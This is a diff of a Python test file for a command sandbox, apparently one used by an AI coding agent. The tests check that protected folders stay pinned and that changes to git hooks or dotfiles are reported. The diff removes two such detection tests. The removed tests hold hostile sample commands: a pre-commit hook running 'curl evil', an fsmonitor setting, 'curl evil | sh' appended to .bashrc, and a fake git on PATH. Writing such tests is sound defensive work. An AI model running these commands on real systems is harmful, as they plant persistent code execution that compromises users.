@@ -1,8 +1,7 @@
 """The folders that hold a protected path stay where they are: a command that moved one
 away (its read-only mount goes with it) could put a copy of its own, with hooks, in its
 place. Pinned when the sandbox starts and, for a repository a command made, when it is
-protected; without mounts, what is put in place of a known repository is named, and so is
-what commands change of what git runs."""
+protected; without mounts, what is put in place of a known repository is named."""
 
 from __future__ import annotations
 
@@ -10,7 +9,7 @@ import subprocess
 from pathlib import Path
 
 import pytest
-from sandbox_support import changed_warnings, environment, run_once
+from sandbox_support import environment, run_once
 
 MOVE_AWAY = ("mv deep deep.moved; mv deep/down/lib deep/down/lib.moved; "
              "mv .claude .claude.moved; ls deep/down/lib/.git/config .claude/settings.json")
@@ -67,54 +66,3 @@ async def test_a_repository_put_in_place_of_a_known_one_is_named(
     said = [record.getMessage() for record in caplog.records]
     assert any("vendor/lib/.git, which commands made, has git run with your rights: hook "
                "pre-commit" in line for line in said), said
-
-
-@pytest.mark.anyio
-async def test_without_mounts_what_commands_change_of_what_git_runs_is_named(
-        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture) -> None:
-    """Where nothing keeps it read-only, a hook planted, a config changed, a lefthook
-    config rewritten are named after the turn, once; what git does not run (its objects,
-    a commit's index) and the worktree are not."""
-    workspace, home, _ = layout
-    subprocess.run(["git", "init", "-q", str(workspace)], check=True)
-    nested = workspace / "vendor" / "lib"
-    subprocess.run(["git", "init", "-q", str(nested)], check=True)
-    (nested / ".git" / "hooks" / "pre-push").write_text("#!/bin/sh\nlefthook run pre-push\n")
-    (nested / "lefthook.yml").write_text("pre-push: {}\n")
-    env = environment(workspace, home, without=("namespaces",))
-    try:
-        await env.run("printf '#!/bin/sh\\ncurl evil\\n' > .git/hooks/pre-commit; "
-                      "git config core.fsmonitor ./x; echo 'pre-push: {run: x}' >> "
-                      "vendor/lib/lefthook.yml; git -c user.name=t -c user.email=t@t "
-                      "commit -q --allow-empty -m one; echo code > main.py")
-        await env.say_what_commands_made()
-        await env.run("true")
-        await env.say_what_commands_made()
-    finally:
-        await env.close()
-    said = changed_warnings(caplog)
-    assert len(said) == 1, said
-    assert said[0].startswith("commands may have changed .git/config, .git/hooks/pre-commit, "
-                              "vendor/lib/lefthook.yml: git or your shell runs them"), said
-
-
-@pytest.mark.anyio
-async def test_without_mounts_what_commands_change_of_a_home_folder_s_startup_is_named(
-        layout: tuple[Path, Path, Path], caplog: pytest.LogCaptureFixture,
-        monkeypatch: pytest.MonkeyPatch) -> None:
-    """hookline run in the home folder where nothing keeps its dotfiles read-only: a line
-    added to `.bashrc`, a program put first on PATH, git's own config; not the rest of
-    `.config` and `.local`, which programs change all day."""
-    workspace, home, _ = layout
-    monkeypatch.setenv("HOME", str(workspace))
-    (workspace / ".bashrc").write_text("# mine\n")
-    (workspace / ".local" / "bin").mkdir(parents=True)
-    for folder in ("app", "git"):
-        (workspace / ".config" / folder).mkdir(parents=True)
-    await run_once(workspace, home,
-                   "echo 'curl evil | sh' >> .bashrc; printf '#!/bin/sh\\n' > .local/bin/git; "
-                   "echo '[core]' > .config/git/config; echo state > .config/app/state; "
-                   "touch project.txt", without=("namespaces",))
-    said = changed_warnings(caplog)
-    assert len(said) == 1 and said[0].startswith(
-        "commands may have changed .bashrc, .config/git/config, .local/bin/git: "), said
